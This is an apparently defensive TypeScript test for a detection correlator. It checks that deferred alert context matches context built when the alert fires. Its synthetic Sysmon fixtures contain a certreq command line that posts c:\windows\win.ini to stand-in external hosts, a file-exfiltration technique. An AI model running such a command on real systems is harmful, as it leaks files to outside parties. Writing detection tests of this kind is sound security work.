/**
 * scan's deferred path (deferContext, finalize liveLater, complete) gives the same alerts, key order included, as
 * the path that builds context when the alert fires — and holds no tree, lifetime or evidence until complete().
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { Correlator } from '../../src/correlate/index.js';
import { toEcsAlert } from '../../src/output/ecs.js';
import type { Alert } from '../../src/model/alert.js';
import type { WinEvent } from '../../src/model/event.js';
import { BUILTIN, CERTREQ, detections, rule, sysmonEnd, sysmonNetwork, sysmonStart } from './support/events.js';

const OTHER = rule('sigma-like', 'medium', 'A Sigma rule');

function events(): WinEvent[] {
  const out: WinEvent[] = [];
  for (let i = 0; i < 6; i++) {
    const t = (s: number): string => `2026-03-01T10:0${i}:${String(s).padStart(2, '0')}Z`;
    out.push(sysmonStart({ time: t(0), guid: `p${i}`, pid: 2000 + i, image: 'C:\\Windows\\System32\\cmd.exe', cmd: 'cmd.exe /c x' }));
    out.push(sysmonStart({ time: t(1), guid: `c${i}`, pid: 3000 + i, parentGuid: `p${i}`, ppid: 2000 + i, parentImage: 'C:\\Windows\\System32\\cmd.exe', image: CERTREQ, ofn: 'CertReq.exe', cmd: `certreq -Post -config https://x${i}.example/ c:\\windows\\win.ini C:\\Users\\Public\\o${i}.txt` }));
    out.push(sysmonNetwork({ time: t(2), guid: `c${i}`, pid: 3000 + i, ip: '198.51.100.7', port: 443 }));
    // Ends arrive after the alert: only the end-of-input context knows them.
    out.push(sysmonEnd({ time: t(3), guid: `c${i}`, pid: 3000 + i, image: CERTREQ }));
  }
  return out;
}

/** Made once: the support helpers number records, and both runs must see the same events. */
const EVENTS = events();

function run(deferred: boolean): { alerts: Alert[]; c: Correlator } {
  const c = new Correlator(deferred ? { deferContext: true, watchCapacity: 0 } : { watchCapacity: 0 });
  const raised: Alert[] = [];
  for (const ev of EVENTS) {
    c.observe(ev);
    if (ev.system.eventId === 1 && String(ev.data['Image']).endsWith('certreq.exe')) raised.push(...c.alertsFor(ev, detections(ev, BUILTIN, OTHER)));
  }
  if (deferred) for (const a of raised) assert.equal(a.context, undefined, 'deferred: no context when the alert fires');
  return { alerts: c.finalize(raised, { liveLater: deferred }), c };
}

test('deferred context, completed as written, equals context built at once (JSON byte for byte)', () => {
  const now = run(false);
  const later = run(true);
  assert.equal(later.alerts.length, 12);
  for (const a of later.alerts) {
    assert.equal(a.context?.process_tree, undefined, 'the finalised alert holds no tree');
    assert.ok(a.context?.incident, 'incidents are assigned at finalize');
  }
  const expected = now.alerts.map((a) => JSON.stringify(toEcsAlert(a)));
  const actual = later.alerts.map((a) => JSON.stringify(toEcsAlert(later.c.complete(a))));
  assert.deepEqual(actual, expected);
  const done = later.c.complete(later.alerts[0]!);
  assert.ok(done.context?.process_tree && done.context.lifetime && done.process);
  assert.equal((done.context.lifetime as { still_running: boolean }).still_running, false);
  // complete() leaves the finalised alert as it was, and is the identity for alerts it did not defer.
  assert.equal(later.alerts[0]!.context?.process_tree, undefined);
  assert.equal(now.c.complete(now.alerts[0]!), now.alerts[0]);
});
